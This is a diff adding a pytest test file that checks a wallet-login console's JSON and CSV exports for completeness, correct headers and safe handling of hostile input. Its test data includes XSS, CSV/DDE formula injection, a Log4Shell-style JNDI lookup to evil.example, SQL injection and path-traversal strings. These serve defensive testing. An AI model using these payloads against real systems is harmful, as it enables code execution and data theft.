@@ -1,0 +1,183 @@
+"""What comes out of the page as JSON and as a file: everything, once, and hostile text as text (checklist line 22)."""
+
+import asyncio
+import csv
+import io
+from typing import Any
+
+import pytest
+
+from kisslock.console import export, store
+from kisslock.console.console import Console
+from kisslock.settings import Settings
+from kisslock.storage.engine import Storage
+from tests.auth.conftest import Clock, code
+from tests.console.conftest import Site
+from tests.console.history import HOUR_MS, MINUTE_MS, Entry, keep
+from tests.console.test_recount import Nobody
+
+NOW = 1_795_256_430_400
+SETTINGS = Settings.of()
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '=HYPERLINK("https://evil.example","Click")',
+    "\x1b[31mred\x1b[0m",
+    "${jndi:ldap://evil.example/a}",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    'a,"b"\r\nc;=1',
+]
+
+
+@pytest.fixture
+def told(site: Site, clock: Clock) -> Site:
+    """A site at NOW."""
+    clock.now = NOW / 1000
+    return site
+
+
+def failed(number: int, text: str) -> Entry:
+    error = {"name": text, "message": text, "stack": f"{text}\n  at x"}
+    wallet, flow = "=cmd", f"-flow-{number:016d}"
+    return Entry(at_ms=NOW - number, level="error", code="X/Y", step="failed", wallet=wallet, flow=flow, error=error)
+
+
+def rows(text: str) -> list[list[str]]:
+    assert text.endswith("\r\n")
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+def test_hostile_text_comes_out_of_json_as_it_is_and_shows_no_control_character(told: Site) -> None:
+    told.keep(*(failed(number, text) for number, text in enumerate(HOSTILE)))
+    answer = told.operator().client.get("/api/console/errors/groups?code=x/y")
+    assert answer.headers["content-type"] == "application/json"
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert "\x1b" not in answer.text
+    groups = answer.json()["groups"]
+    assert [group["message"] for group in groups] == HOSTILE
+    assert answer.json()["code"] == "X/Y"
+    assert all(group["count"] == 1 and group["first_ms"] == group["last_ms"] for group in groups)
+
+
+def test_hostile_text_comes_out_of_a_sheet_as_text(told: Site) -> None:
+    told.keep(*(failed(number, text) for number, text in enumerate(HOSTILE)))
+    answer = told.operator().client.get("/api/console/export.csv?what=entries&range=1h")
+    head, *found = rows(answer.text)
+    assert head == [*export.ENTRY]
+    assert len(found) == len(HOSTILE)
+    assert not [cell for row in found for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    assert "\x1b" not in answer.text
+    by_column = [dict(zip(head, row, strict=True)) for row in reversed(found)]
+    assert [row["message"].removeprefix("'") for row in by_column] == [
+        text.replace("\x1b", "\\x1b") for text in HOSTILE
+    ]
+    assert {row["wallet"] for row in by_column} == {"'=cmd"}
+    assert by_column[0]["flow"] == "'-flow-0000000000000000"
+
+
+@pytest.mark.parametrize("what", ["funnel", "wallets", "errors", "entries"])
+@pytest.mark.parametrize("name", ["1h", "24h", "7d", "30d"])
+def test_a_file_says_what_it_is(told: Site, what: str, name: str) -> None:
+    answer = told.operator().client.get(f"/api/console/export.csv?what={what}&range={name}")
+    assert answer.status_code == 200
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
+    assert answer.headers["content-disposition"] == f'attachment; filename="kisslock-{what}-{name}-2026-11-21.csv"'
+    assert answer.headers["cache-control"] == "no-store"
+    assert len(rows(answer.text)) == (5 if what == "funnel" else 1)
+
+
+def test_a_file_has_the_numbers_of_the_page(told: Site) -> None:
+    flow = "f" * 20
+    about: dict[str, Any] = {"wallet": "rabby", "method": "extension", "flow": flow}
+    told.keep(
+        Entry(at_ms=NOW - 4, step="opened", flow=flow),
+        Entry(at_ms=NOW - 3, step="requested", **about),
+        Entry(at_ms=NOW - 2, step="connected", duration_ms=1000, **about),
+        Entry(at_ms=NOW - 1, step="failed", level="warn", code="WALLET/REJECTED", **about),
+    )
+    client = told.operator().client
+
+    def cells(what: str) -> list[list[str]]:
+        return rows(client.get(f"/api/console/export.csv?what={what}").text)[1:]
+
+    assert cells("funnel") == [["opened", "1"], ["wallet_chosen", "0"], ["requested", "1"], ["connected", "1"]]
+    median = client.get("/api/console/wallets").json()["wallets"][0]["median_ms"]
+    assert cells("wallets") == [["rabby", "extension", "1", "1", str(median)]]
+    assert cells("errors") == [["WALLET/REJECTED", "1", *["0"] * 11, "1"]]
+    assert cells("entries")[2] == [
+        "3", "2026-11-21T10:20:30.398Z", "debug", "", "connected", "rabby", "extension", "1000", flow, "", "", "",
+    ]  # fmt: skip
+    assert '"id","time"' in client.get("/api/console/export.csv?what=entries").text
+    assert '\r\n3,"2026-' in client.get("/api/console/export.csv?what=entries").text
+
+
+@pytest.mark.parametrize("what", ["", "sessions", "entries;", "../entries", "ENTRIES"])
+def test_another_table_is_refused_with_those_there_are(told: Site, what: str) -> None:
+    answer = told.operator().client.get("/api/console/export.csv", params={"what": what})
+    assert code(answer) == "400 console/unknown-export"
+    assert "funnel, wallets, errors, entries" in answer.json()["error"]["hint"]
+
+
+@pytest.mark.parametrize("path", ["funnel", "wallets", "errors", "export.csv"])
+def test_another_range_is_refused(told: Site, path: str) -> None:
+    assert code(told.operator().client.get(f"/api/console/{path}?range=1y")) == "400 console/unknown-range"
+
+
+@pytest.mark.parametrize("asked", ["", "' OR 1=1 --", "\x00", "X" * 10_000, "é", "\U0001f600"])
+def test_behind_a_code_that_there_cannot_be_is_nothing(told: Site, asked: str) -> None:
+    answer = told.operator().client.get("/api/console/errors/groups", params={"code": asked})
+    assert (answer.status_code, answer.json()["groups"]) == (200, [])
+
+
+def test_the_error_of_an_entry_may_be_anything(told: Site) -> None:
+    told.keep(
+        Entry(at_ms=NOW, error={"name": 1, "message": ["=1"], "stack": None}),
+        Entry(at_ms=NOW + 1, error={"message": {"a": "é漢"}}),
+    )
+    answer = told.operator().client.get("/api/console/export.csv?what=entries&range=1h")
+    assert rows(answer.text)[1][-3:] == ["1", "['=1']", ""]
+
+
+async def test_every_entry_of_a_range_is_exported_once_whatever_the_pages(
+    database: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "PAGE", 7)
+    storage = Storage(database)
+    # Many at the same moment, some kept later than their neighbours, two just outside.
+    moments = [NOW - 59 * MINUTE_MS - 30_400 + (number * number % 23) for number in range(200)]
+    moments += [NOW - HOUR_MS, NOW - 59 * MINUTE_MS - 30_401, NOW + 1, NOW]
+    await keep(storage, [Entry(at_ms=at_ms, step="opened") for at_ms in moments])
+    console = Console(SETTINGS, storage, Nobody(), clock=lambda: NOW / 1000)
+    asked: list[int] = []
+    page = store.page
+
+    async def counted(*about: Any) -> Any:
+        found = await page(*about)
+        asked.append(len(found))
+        return found
+
+    monkeypatch.setattr(store, "page", counted)
+    seen = console.window("1h")
+    text = "".join([part.decode() async for part in console.exported("entries", seen)])
+    _, *found = rows(text)
+    right = sorted((at_ms, number) for number, at_ms in enumerate(moments, 1) if seen.from_ms <= at_ms <= seen.to_ms)
+    assert [int(row[0]) for row in found] == [number for _, number in right]
+    assert len(found) == 201
+    assert max(asked) == 7
+    await storage.close()
+
+
+async def test_entries_that_are_kept_meanwhile_do_not_make_an_export_endless(tmp_path: Any) -> None:
+    storage = Storage(f"sqlite:///{tmp_path / 'growing.db'}")
+    await keep(storage, [Entry(at_ms=NOW - 5, step="opened")])
+    console = Console(SETTINGS, storage, Nobody(), clock=lambda: NOW / 1000)
+    parts = 0
+    async with asyncio.timeout(20):
+        async for _ in console.exported("entries", console.window("1h")):
+            parts += 1
+            await keep(storage, [Entry(at_ms=NOW + parts, step="opened") for _ in range(300)])
+    assert parts == 2
+    await storage.close()
+
+
+def test_nothing_about_a_visitor_is_in_a_file() -> None:
+    assert not {"address", "ip", "user_agent", "cookie", "url"} & {*export.ENTRY}
